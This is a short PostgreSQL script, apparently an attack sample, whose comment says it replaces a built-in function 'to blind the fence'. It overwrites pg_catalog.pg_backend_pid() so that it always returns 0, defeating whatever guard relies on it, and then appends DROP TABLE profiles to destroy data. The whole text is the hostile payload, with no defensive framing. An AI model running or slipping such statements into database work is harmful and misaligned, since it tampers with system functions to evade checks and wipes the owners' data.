-- One of PostgreSQL's own functions is replaced to blind the fence.
-- object: function pg_backend_pid()
-- owner: PostgreSQL
CREATE OR REPLACE FUNCTION pg_catalog.pg_backend_pid() RETURNS int LANGUAGE sql STABLE AS 'SELECT 0'; DROP TABLE profiles
